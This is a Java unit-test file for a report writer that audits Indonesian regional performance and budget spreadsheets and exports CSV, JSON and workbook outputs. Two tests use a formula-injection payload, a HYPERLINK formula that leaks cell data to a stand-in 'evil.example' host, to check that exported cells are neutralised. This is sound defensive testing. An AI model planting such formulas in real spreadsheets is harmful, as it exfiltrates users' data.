package id.saring.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import id.saring.check.BudgetResult;
import id.saring.check.CapaianResult;
import id.saring.model.Arah;
import id.saring.model.BudgetLevel;
import id.saring.model.BudgetLine;
import id.saring.model.CapaianRecord;
import id.saring.model.Category;
import id.saring.model.Finding;
import id.saring.model.Location;
import id.saring.model.Message;
import id.saring.model.Severity;
import id.saring.model.Stated;
import id.saring.model.Value;
import id.saring.value.DecimalConvention;
import id.saring.value.GradeVocabulary;
import id.saring.value.IndoNumberParser;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The four machine outputs of the contract, written from a run over the Sumber Harta samples (seed 003). */
class ReportWriterTest {

    private static final IndoNumberParser PARSER = new IndoNumberParser(new GradeVocabulary(List.of("B", "WTP")));
    private static final Path SAMPLES = Path.of("input-samples");
    private static final String XLSX = "kecamatan-sumber-harta/kinerja-anggaran-2023.xlsx";
    private static final String BROKEN = "kecamatan-sumber-harta/lkjip-2023-lampiran.xlsx";
    private static final String SHEET = "Realisasi Keuangan";
    /** The sample's own digest: an annotated copy is made only of the content the run read. */
    private static final String XLSX_SHA256 = sha256(SAMPLES.resolve(XLSX));
    private static final OffsetDateTime GENERATED = OffsetDateTime.of(2024, 1, 31, 10, 0, 0, 123_000_000,
            ZoneOffset.ofHours(7));

    private static final List<String> CONTRACT_CAPAIAN = List.of("file", "sheet", "row", "opd", "tahun", "sasaran",
            "indikator", "satuan", "arah", "target", "realisasi", "capaian_tertulis", "capaian_hitung", "predikat",
            "status");
    private static final List<String> CONTRACT_ANGGARAN = List.of("file", "sheet", "row", "opd", "tahun", "level",
            "kode", "uraian", "pagu", "realisasi", "serapan_tertulis", "serapan_hitung", "status");
    private static final List<String> FINDING_FIELDS = List.of("file", "sheet", "row", "column", "cell", "category",
            "rule", "severity", "message", "value", "expected");

    @TempDir
    Path out;

    private final ReportWriter writer = new ReportWriter(new MessageCatalog(Language.ID), "0.1.0");

    private static Stated stated(String text, int column) {
        return new Stated(PARSER.parse(text, DecimalConvention.COMMA), text, column);
    }

    private static CapaianRecord indicator(int row, String indikator, String satuan, String target, String realisasi,
            String capaian) {
        return new CapaianRecord(new Location(XLSX, SHEET, row, -1), "Kecamatan Sumber Harta", "2023",
                "Meningkatnya Kualitas Pelayanan Publik", indikator, satuan, stated(target, 3), stated(realisasi, 4),
                stated(capaian, 5), Stated.absent(), List.of());
    }

    private static BudgetLine programme(int row, String uraian, String pagu, String realisasi, String serapan) {
        return new BudgetLine(new Location(XLSX, SHEET, row, -1), "Kecamatan Sumber Harta", "2023",
                BudgetLevel.UNKNOWN, "", uraian, false, stated(pagu, 7), stated(realisasi, 8), stated(serapan, 9),
                List.of());
    }

    // seed 003 l.867: IKM 84 / 79,4 stated 94,05 %
    private static final CapaianRecord IKM = indicator(7, "Indeks Kepuasan masyarakat", "", "84", "79,4", "94,05%");
    // seed 003 l.573: a grade target with its score
    private static final CapaianRecord SAKIP = indicator(12, "Nilai Evaluasi SAKIP Kecamatan Sumber Harta", "nilai",
            "B(64,59)", "61,90", "95");
    // seed 003 l.868
    private static final BudgetLine PEMBERDAYAAN = programme(8, "Program Pemberdayaan Masyarakat Desa dan Kelurahan",
            "241.647.000", "239.107.600", "97%");
    // seed 001 l.598: the whole budget; its label holds a comma, so the CSV must quote it
    private static final BudgetLine TOTAL = programme(9, "Jumlah Program, Kegiatan dan Sub Kegiatan",
            "Rp. 3.489.328.596,00", "Rp. 3.182.258.349,00", "91,19 %");

    private static final Finding CAPAIAN_MISMATCH = new Finding(new Location(XLSX, SHEET, 7, 5),
            Category.CAPAIAN_MISMATCH, "capaian.recompute", Severity.ERROR, Message.of("capaian.mismatch", "94,05%",
                    "F7", Message.of("formula.naik", new BigDecimal("79.4"), new BigDecimal("84")),
                    new BigDecimal("94.52")), "94,05%", "94.52");
    private static final Finding ABSORPTION = new Finding(new Location(XLSX, SHEET, 8, 9),
            Category.ABSORPTION_MISMATCH, "serapan.recompute", Severity.ERROR, Message.of("serapan.mismatch", "97%",
                    "J8", new BigDecimal("239107600"), new BigDecimal("241647000"), new BigDecimal("98.95")), "97%",
            "98.95");
    private static final Finding AMBIGUOUS_ON_BUDGET = new Finding(new Location(XLSX, SHEET, 8, 7),
            Category.AMBIGUOUS_NUMBER, "number.ambiguous", Severity.WARNING, Message.of("severity.warning"), "1.234",
            "");
    private static final Finding UNREADABLE = new Finding(Location.ofFile(BROKEN), Category.UNREADABLE_FILE,
            "file.unreadable", Severity.ERROR, Message.of("file.unreadable.corrupt", "Error reading Zip content"), "",
            "");

    private static RunResult run() {
        return new RunResult(
                List.of(new InputStatus(XLSX, SAMPLES.resolve(XLSX), XLSX_SHA256, true, 1),
                        new InputStatus(BROKEN, SAMPLES.resolve(BROKEN), "", false, 0)),
                List.of(),
                List.of(new CapaianResult(IKM, Arah.NAIK, Optional.of(new BigDecimal("94.52")), "Sangat Tinggi"),
                        new CapaianResult(SAKIP, Arah.NAIK, Optional.of(new BigDecimal("95.84")), "Sangat Tinggi")),
                List.of(new BudgetResult(PEMBERDAYAAN, BudgetLevel.PROGRAM, Optional.empty(), Optional.of(new BigDecimal("98.95"))),
                        new BudgetResult(TOTAL, BudgetLevel.TOTAL, Optional.empty(), Optional.of(new BigDecimal("91.20")))),
                List.of(CAPAIAN_MISMATCH, ABSORPTION, AMBIGUOUS_ON_BUDGET, UNREADABLE));
    }

    private static String sha256(Path file) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
        } catch (IOException | NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private List<CSVRecord> csv(String name) throws IOException {
        return CSVFormat.RFC4180.parse(new StringReader(Files.readString(out.resolve(name)))).getRecords();
    }

    private static List<String> values(CSVRecord r) {
        return r.toList();
    }

    private List<String> folder() throws IOException {
        try (Stream<Path> files = Files.list(out)) {
            return files.map(p -> p.getFileName().toString()).sorted().toList();
        }
    }

    @Test
    void writesExactlyTheOutputFilesAndNoTemporaryOne() throws IOException {
        writer.write(run(), out, GENERATED);

        assertThat(folder()).containsExactly(".saring", "anggaran.csv", "annotated", "anomalies.csv", "anomalies.json",
                "anomalies.xlsx", "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "report.html",
                "tables.csv");
        // the readable input's copy and nothing else: the unreadable one gets none
        try (Stream<Path> copies = Files.walk(out.resolve("annotated"))) {
            assertThat(copies.filter(Files::isRegularFile).map(p -> out.relativize(p).toString().replace('\\', '/')))
                    .containsExactly("annotated/" + XLSX);
        }
    }

    @Test
    void textThatCouldRunAsAFormulaIsNeutralisedInEveryCsvButNumbersAreNot() throws IOException {
        CapaianRecord injected = indicator(7, "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")", "", "84",
                "79,4", "94,05%");
        BudgetLine dashed = programme(8, "- Belanja Pegawai", "241.647.000", "(5.000)", "");
        Finding atSign = new Finding(new Location(XLSX, SHEET, 7, 5), Category.UNPARSEABLE_VALUE, "value.parse",
                Severity.ERROR, Message.of("severity.error"), "@SUM(A1:A9)", "");
        writer.write(new RunResult(List.of(), List.of(),
                List.of(new CapaianResult(injected, Arah.NAIK, Optional.empty(), "")),
                List.of(new BudgetResult(dashed, BudgetLevel.PROGRAM, Optional.empty(), Optional.empty())), List.of(atSign)), out,
                GENERATED);

        assertThat(csv("capaian.csv").get(1).get(CONTRACT_CAPAIAN.indexOf("indikator")))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")");
        assertThat(csv("anggaran.csv").get(1).get(CONTRACT_ANGGARAN.indexOf("uraian"))).isEqualTo("'- Belanja Pegawai");
        assertThat(csv("anggaran.csv").get(1).get(CONTRACT_ANGGARAN.indexOf("realisasi"))).isEqualTo("-5000");
        assertThat(csv("anomalies.csv").get(1).get(FINDING_FIELDS.indexOf("value"))).isEqualTo("'@SUM(A1:A9)");
    }

    @Test
    void textThatCouldRunAsAFormulaIsAQuotePrefixedTextCellInEveryWorkbook() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")";
        CapaianRecord injected = indicator(7, hyperlink, "", "84", "79,4", "94,05%");
        Finding atSign = new Finding(new Location(XLSX, SHEET, 7, 5), Category.UNPARSEABLE_VALUE, "value.parse",
                Severity.ERROR, Message.of("severity.error"), "@SUM(A1:A9)", "");
        writer.write(new RunResult(List.of(), List.of(),
                List.of(new CapaianResult(injected, Arah.NAIK, Optional.empty(), "")), List.of(), List.of(atSign)),
                out, GENERATED);

        try (XSSFWorkbook summary = new XSSFWorkbook(out.resolve("capaian-summary.xlsx").toFile());
                XSSFWorkbook consolidated = new XSSFWorkbook(out.resolve("consolidated.xlsx").toFile());
                XSSFWorkbook anomalies = new XSSFWorkbook(out.resolve("anomalies.xlsx").toFile())) {
            for (Cell indikator : List.of(summary.getSheet("Capaian").getRow(1).getCell(6),
                    consolidated.getSheet("Capaian (gabungan)").getRow(1).getCell(6))) {
                assertThat(indikator.getCellType()).isEqualTo(CellType.STRING);
                assertThat(indikator.getStringCellValue()).isEqualTo(hyperlink);
                assertThat(indikator.getCellStyle().getQuotePrefixed()).isTrue();
            }
            Cell value = anomalies.getSheet("Temuan").getRow(1).getCell(7);
            assertThat(value.getCellType()).isEqualTo(CellType.STRING);
            assertThat(value.getStringCellValue()).isEqualTo("@SUM(A1:A9)");
            assertThat(value.getCellStyle().getQuotePrefixed()).isTrue();
            Cell file = anomalies.getSheet("Temuan").getRow(1).getCell(0);
            assertThat(file.getCellStyle().getQuotePrefixed()).isFalse();
        }
    }

    @Test
    void createsTheOutputFolderWhenMissing() throws IOException {
        Path nested = out.resolve("output/2023");
        writer.write(run(), nested, GENERATED);

        assertThat(nested.resolve("anomalies.json")).isRegularFile();
    }

    @Test
    void capaianCsvHasTheContractsColumnsInOrder() throws IOException {
        writer.write(run(), out, GENERATED);

        List<String> header = values(csv("capaian.csv").get(0));
        assertThat(header.subList(0, CONTRACT_CAPAIAN.size())).isEqualTo(CONTRACT_CAPAIAN);
        assertThat(header.subList(CONTRACT_CAPAIAN.size(), header.size())).containsExactly("target_skor",
                "realisasi_skor");
    }

    @Test
    void anggaranCsvHasTheContractsColumnsInOrder() throws IOException {
        writer.write(run(), out, GENERATED);

        assertThat(values(csv("anggaran.csv").get(0))).isEqualTo(CONTRACT_ANGGARAN);
    }

    @Test
    void anomaliesCsvHasTheJsonFieldsInOrder() throws IOException {
        writer.write(run(), out, GENERATED);

        assertThat(values(csv("anomalies.csv").get(0))).isEqualTo(FINDING_FIELDS);
    }

    @Test
    void capaianRowHoldsPlainNumbersAndTheStatedCapaianAsANumber() throws IOException {
        writer.write(run(), out, GENERATED);

        assertThat(values(csv("capaian.csv").get(1))).containsExactly(XLSX, SHEET, "7", "Kecamatan Sumber Harta",
                "2023", "Meningkatnya Kualitas Pelayanan Publik", "Indeks Kepuasan masyarakat", "", "naik", "84",
                "79.4", "94.05", "94.52", "Sangat Tinggi", "capaian-mismatch", "", "");
    }

    @Test
    void gradeTargetIsWrittenAsItsLetterWithItsScoreInTargetSkor() throws IOException {
        writer.write(run(), out, GENERATED);

        assertThat(values(csv("capaian.csv").get(2))).containsExactly(XLSX, SHEET, "12", "Kecamatan Sumber Harta",
                "2023", "Meningkatnya Kualitas Pelayanan Publik", "Nilai Evaluasi SAKIP Kecamatan Sumber Harta",
                "nilai", "naik", "B", "61.9", "95", "95.84", "Sangat Tinggi", "ok", "64.59", "");
    }

    @Test
    void capaianTertulisIsTheFigureAtThePrecisionTheCellShows() throws IOException {
        // an xlsx numeric cell holding 94.047619… with the format 0.00 shows 94,05
        Stated shown = new Stated(new Value.Quantity(new BigDecimal("94.0476190476"), 2, Value.Unit.PERCENT,
                Value.Qualifier.EXACT, ""), "94,05%", 5);
        CapaianRecord r = new CapaianRecord(IKM.location(), IKM.opd(), IKM.tahun(), IKM.sasaran(), IKM.indikator(),
                "%", IKM.target(), IKM.realisasi(), shown, Stated.absent(), List.of());
        writer.write(new RunResult(List.of(), List.of(), List.of(new CapaianResult(r, Arah.NAIK,
                Optional.of(new BigDecimal("94.52")), "Sangat Tinggi")), List.of(), List.of()), out, GENERATED);

        assertThat(csv("capaian.csv").get(1).get(CONTRACT_CAPAIAN.indexOf("capaian_tertulis"))).isEqualTo("94.05");
    }

    @Test
    void anggaranRowsHoldMoneyWithoutThousandsSeparatorsAndTheirStatus() throws IOException {
        writer.write(run(), out, GENERATED);

        List<CSVRecord> rows = csv("anggaran.csv");
        assertThat(rows).hasSize(3);
        // the ambiguous-number warning on H8 is outranked by the absorption-mismatch error on J8
        assertThat(values(rows.get(1))).containsExactly(XLSX, SHEET, "8", "Kecamatan Sumber Harta", "2023",
                "program", "", "Program Pemberdayaan Masyarakat Desa dan Kelurahan", "241647000", "239107600", "97",
                "98.95", "absorption-mismatch");
        assertThat(values(rows.get(2))).containsExactly(XLSX, SHEET, "9", "Kecamatan Sumber Harta", "2023", "total",
                "", "Jumlah Program, Kegiatan dan Sub Kegiatan", "3489328596", "3182258349", "91.19", "91.20", "ok");
    }

    @Test
    void csvIsRfc4180WithCrlfAndQuotedFieldsAndDotDecimals() throws IOException {
        writer.write(run(), out, GENERATED);

        String anggaran = Files.readString(out.resolve("anggaran.csv"), StandardCharsets.UTF_8);
        assertThat(anggaran).startsWith(String.join(",", CONTRACT_ANGGARAN) + "\r\n");
        assertThat(anggaran).contains(
                ",\"Jumlah Program, Kegiatan dan Sub Kegiatan\",3489328596,3182258349,91.19,91.20,ok\r\n");
        assertThat(anggaran.replace("\r\n", "")).doesNotContain("\n");
        String anomalies = Files.readString(out.resolve("anomalies.csv"), StandardCharsets.UTF_8);
        assertThat(anomalies).contains(",\"Capaian tertulis 94,05% di sel F7, padahal realisasi 79,4 / target 84 "
                + "× 100 = 94,52%.\",\"94,05%\",94.52\r\n");
    }

    @Test
    void anomaliesCsvHasOneLinePerFindingWithTheRenderedMessage() throws IOException {
        writer.write(run(), out, GENERATED);

        List<CSVRecord> rows = csv("anomalies.csv");
        assertThat(rows).hasSize(5);
        assertThat(values(rows.get(2))).containsExactly(XLSX, SHEET, "8", "J", "J8", "absorption-mismatch",
                "serapan.recompute", "error", "Serapan anggaran tertulis 97% di sel J8, padahal realisasi "
                        + "239.107.600 / pagu 241.647.000 × 100 = 98,95%.", "97%", "98.95");
        assertThat(values(rows.get(4))).containsExactly(BROKEN, "", "", "", "", "unreadable-file", "file.unreadable",
                "error", "Berkas rusak atau terpotong sehingga tidak dapat dibuka; minta salinan baru dari "
                        + "pengirimnya (Error reading Zip content).", "", "");
    }

    @Test
    void messagesAreWrittenInTheCataloguesLanguage() throws IOException {
        new ReportWriter(new MessageCatalog(Language.EN), "0.1.0").write(run(), out, GENERATED);

        assertThat(csv("anomalies.csv").get(2).get(8)).isEqualTo(
                "The budget absorption stated in cell J8 is 97%, but realisasi 239,107,600 / pagu 241,647,000 × 100 "
                        + "= 98.95%.");
    }

    @Test
    void jsonHasTheContractsTopLevelFieldsInOrder() throws IOException {
        writer.write(run(), out, GENERATED);

        JsonNode json = new ObjectMapper().readTree(out.resolve("anomalies.json").toFile());
        List<String> fields = new ArrayList<>();
        json.fieldNames().forEachRemaining(fields::add);
        assertThat(fields).containsExactly("tool", "version", "generated", "inputs", "findings", "totals");
        assertThat(json.get("tool").asText()).isEqualTo("saring");
        assertThat(json.get("version").asText()).isEqualTo("0.1.0");
        assertThat(json.get("generated").asText()).isEqualTo("2024-01-31T10:00:00+07:00");
    }

    @Test
    void jsonInputsGiveFileHashStatusAndTables() throws IOException {
        writer.write(run(), out, GENERATED);

        JsonNode inputs = new ObjectMapper().readTree(out.resolve("anomalies.json").toFile()).get("inputs");
        assertThat(inputs).hasSize(2);
        List<String> fields = new ArrayList<>();
        inputs.get(0).fieldNames().forEachRemaining(fields::add);
        assertThat(fields).containsExactly("file", "sha256", "status", "tables");
        assertThat(inputs.get(0).get("file").asText()).isEqualTo(XLSX);
        assertThat(inputs.get(0).get("sha256").asText()).isEqualTo(XLSX_SHA256);
        assertThat(inputs.get(0).get("status").asText()).isEqualTo("read");
        assertThat(inputs.get(0).get("tables").asInt()).isEqualTo(1);
        assertThat(inputs.get(1).get("status").asText()).isEqualTo("unreadable");
        assertThat(inputs.get(1).get("tables").asInt()).isZero();
    }

    @Test
    void jsonFindingsHaveTheContractsFieldsAndANullRowForAWholeFile() throws IOException {
        writer.write(run(), out, GENERATED);

        JsonNode findings = new ObjectMapper().readTree(out.resolve("anomalies.json").toFile()).get("findings");
        assertThat(findings).hasSize(4);
        List<String> fields = new ArrayList<>();
        findings.get(0).fieldNames().forEachRemaining(fields::add);
        assertThat(fields).isEqualTo(FINDING_FIELDS);
        JsonNode capaian = findings.get(0);
        assertThat(capaian.get("file").asText()).isEqualTo(XLSX);
        assertThat(capaian.get("sheet").asText()).isEqualTo(SHEET);
        assertThat(capaian.get("row").isInt()).isTrue();
        assertThat(capaian.get("row").asInt()).isEqualTo(7);
        assertThat(capaian.get("column").asText()).isEqualTo("F");
        assertThat(capaian.get("cell").asText()).isEqualTo("F7");
        assertThat(capaian.get("category").asText()).isEqualTo("capaian-mismatch");
        assertThat(capaian.get("rule").asText()).isEqualTo("capaian.recompute");
        assertThat(capaian.get("severity").asText()).isEqualTo("error");
        assertThat(capaian.get("message").asText()).isEqualTo(
                "Capaian tertulis 94,05% di sel F7, padahal realisasi 79,4 / target 84 × 100 = 94,52%.");
        assertThat(capaian.get("value").asText()).isEqualTo("94,05%");
        assertThat(capaian.get("expected").asText()).isEqualTo("94.52");
        JsonNode unreadable = findings.get(3);
        assertThat(unreadable.get("row").isNull()).isTrue();
        assertThat(unreadable.get("file").asText()).isEqualTo(BROKEN);
        assertThat(unreadable.get("column").asText()).isEmpty();
        assertThat(unreadable.get("cell").asText()).isEmpty();
    }

    @Test
    void jsonTotalsCountFilesRecordsAndFindingsBySeverity() throws IOException {
        writer.write(run(), out, GENERATED);

        JsonNode totals = new ObjectMapper().readTree(out.resolve("anomalies.json").toFile()).get("totals");
        List<String> fields = new ArrayList<>();
        totals.fieldNames().forEachRemaining(fields::add);
        assertThat(fields).containsExactly("files", "records", "error", "warning", "info");
        assertThat(totals.get("files").asInt()).isEqualTo(2);
        assertThat(totals.get("records").asInt()).isEqualTo(4);
        assertThat(totals.get("error").asInt()).isEqualTo(3);
        assertThat(totals.get("warning").asInt()).isEqualTo(1);
        assertThat(totals.get("info").asInt()).isZero();
    }

    @Test
    void emptyRunWritesHeadersAndEmptyLists() throws IOException {
        writer.write(new RunResult(List.of(), List.of(), List.of(), List.of(), List.of()), out, GENERATED);

        assertThat(Files.readString(out.resolve("capaian.csv"))).isEqualTo(
                String.join(",", CONTRACT_CAPAIAN) + ",target_skor,realisasi_skor\r\n");
        JsonNode json = new ObjectMapper().readTree(out.resolve("anomalies.json").toFile());
        assertThat(json.get("findings")).isEmpty();
        assertThat(json.get("totals").get("records").asInt()).isZero();
    }

    @Test
    void rewritingReplacesEarlierOutputs() throws IOException {
        writer.write(run(), out, GENERATED);
        writer.write(new RunResult(List.of(), List.of(), List.of(), List.of(), List.of()), out, GENERATED);

        assertThat(csv("anomalies.csv")).hasSize(1);
        // a run without inputs writes no copy, and the first run's copies stay
        assertThat(folder()).containsExactly(".saring", "anggaran.csv", "annotated", "anomalies.csv", "anomalies.json",
                "anomalies.xlsx", "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "report.html",
                "tables.csv");
    }

    /** The outputs that are files; {@code annotated/} is a folder of copies. */
    private static List<String> outputFiles() {
        return ReportWriter.OUTPUTS.stream().filter(name -> !name.endsWith("/")).toList();
    }

    private void writeEarlierOutputs() throws IOException {
        for (String name : outputFiles()) {
            Files.writeString(out.resolve(name), "earlier " + name);
        }
    }

    private void assertEarlierOutputsUntouched() throws IOException {
        for (String name : outputFiles()) {
            assertThat(out.resolve(name)).hasContent("earlier " + name);
        }
        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "anomalies.xlsx",
                "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "report.html", "tables.csv");
    }

    @Test
    void failureWhileWritingTheFirstFileLeavesEarlierOutputsUntouched() throws IOException {
        writeEarlierOutputs();
        RunResult broken = new RunResult(List.of(), List.of(), List.of(), List.of(), List.of(new Finding(
                new Location(XLSX, SHEET, 7, 5), Category.CAPAIAN_MISMATCH, "capaian.recompute", Severity.ERROR,
                Message.of("no.such.message"), "", "")));

        assertThatThrownBy(() -> writer.write(broken, out, GENERATED)).isInstanceOf(IllegalStateException.class);
        assertEarlierOutputsUntouched();
    }

    @Test
    void failureAfterSomeFilesAreWrittenLeavesEarlierOutputsUntouched() throws IOException {
        writeEarlierOutputs();
        // anomalies.json and anomalies.csv are complete when this record, which has no arah at all, stops capaian.csv
        RunResult broken = new RunResult(List.of(), List.of(), List.of(new CapaianResult(IKM, null, Optional.empty(), "")),
                List.of(), List.of(CAPAIAN_MISMATCH));

        assertThatThrownBy(() -> writer.write(broken, out, GENERATED)).isInstanceOf(NullPointerException.class);
        assertEarlierOutputsUntouched();
    }

    @Test
    void aRenameThatFailsLeavesEveryEarlierOutputInPlace() throws IOException {
        writeEarlierOutputs();
        // the last output cannot take its place: a folder holds its name
        Files.delete(out.resolve("anggaran.csv"));
        Files.writeString(Files.createDirectories(out.resolve("anggaran.csv")).resolve("catatan.txt"), "punya pengguna");

        assertThatThrownBy(() -> writer.write(run(), out, GENERATED)).isInstanceOf(IOException.class)
                .hasMessageContaining("anggaran.csv is a folder");
        for (String name : List.of("anomalies.json", "anomalies.csv", "capaian.csv")) {
            assertThat(out.resolve(name)).hasContent("earlier " + name);
        }
        assertThat(out.resolve("anggaran.csv/catatan.txt")).hasContent("punya pengguna");
        // nor is the folder made for the annotated copy left behind
        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "anomalies.xlsx",
                "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "report.html", "tables.csv");
    }
}
